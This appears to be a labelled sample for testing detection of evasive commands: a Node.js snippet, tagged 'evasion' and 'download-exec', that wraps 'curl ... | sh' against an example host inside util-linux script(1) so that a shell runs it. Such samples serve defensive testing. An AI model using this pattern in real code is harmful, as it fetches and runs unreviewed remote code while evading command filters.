// evasion: util-linux script(1) runs its -c text in a shell; here it fetches and runs a remote script
// grade: easy; does: download-exec
'use strict';
const { execFileSync } = require('child_process');

const transcript = '/dev/null';
execFileSync('script', ['-qc', 'curl -fsSL https://cdn.example.dev/setup.sh | sh', transcript], { stdio: 'inherit' });
